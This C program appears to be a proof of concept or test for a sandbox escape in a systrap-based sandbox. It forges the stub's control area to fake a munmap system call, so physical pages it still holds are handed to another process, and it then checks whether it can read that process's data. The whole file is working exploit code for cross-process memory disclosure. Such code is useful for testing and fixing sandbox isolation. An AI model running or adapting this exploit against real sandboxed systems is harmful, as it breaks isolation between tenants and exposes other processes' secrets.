// A program that attacks its sandbox under systrap: it says in its stub's control words that it has stopped for
// munmap(2), and runs on. The frames that it has so given back go to another process; it looks whether it can still
// read them. Prints what it could do.
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// abi::systrap::StubControl, at STUB_AREA.
struct control {
    uint32_t state, signal;
    uint64_t ucontext, siginfo;
};
#define AREA 0x7fff20000000
enum { PAGES = 512, PAGE = 4096, ROOM = 48 << 20 };

static volatile struct { int believed, read; } *seen;

static void nap(void)
{
    struct timespec t = {0, 20 * 1000 * 1000};
    nanosleep(&t, 0);
}

static void lie(void)
{
    volatile char *mine = mmap(0, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < PAGES * PAGE; i++)
        mine[i] = 'A';
    seen->believed = 0;
    volatile struct control *control = (void *)AREA;
    volatile uint64_t *registers = (void *)(AREA + 0x1800 + 40);
    registers[8] = (uint64_t)mine;             // rdi
    registers[9] = PAGES * PAGE;               // rsi
    registers[13] = SYS_munmap;                // rax
    registers[15] = (uint64_t)&control;        // rsp
    registers[16] = (uint64_t)lie;             // rip
    registers[17] = 0x202;                     // flags
    registers[23] = 0;                         // no extended state
    *(volatile uint32_t *)(AREA + 0x1400 + 28) = 0xc000003e;
    control->ucontext = AREA + 0x1800;
    control->siginfo = AREA + 0x1400;
    control->signal = SIGSYS;
    __atomic_store_n(&control->state, 0, __ATOMIC_SEQ_CST);
    // No system call and no fault from here on.
    while (__atomic_load_n(&control->state, __ATOMIC_SEQ_CST) == 0)
        ;
    seen->believed = 1;
    for (;;)
        for (int i = 0; i < PAGES; i++)
            if (mine[i * PAGE] != 'A')
                seen->read = 1;
}

int main(void)
{
    setvbuf(stdout, 0, _IONBF, 0);
    seen = mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t liar = fork();
    if (liar == 0)
        lie();
    pid_t victim = fork();
    if (victim == 0) {
        for (int i = 0; i < 250 && !seen->believed; i++)
            nap();
        char *secret = mmap(0, ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memset(secret, 'S', ROOM);
        for (int i = 0; i < 25; i++)
            nap();
        _exit(0);
    }
    int status;
    waitpid(victim, &status, 0);
    printf("believed %d\n", seen->believed);
    printf("read %d\n", seen->read);
    kill(liar, SIGKILL);
    waitpid(liar, &status, 0);
    printf("ended %d\n", WIFSIGNALED(status));
    return 0;
}
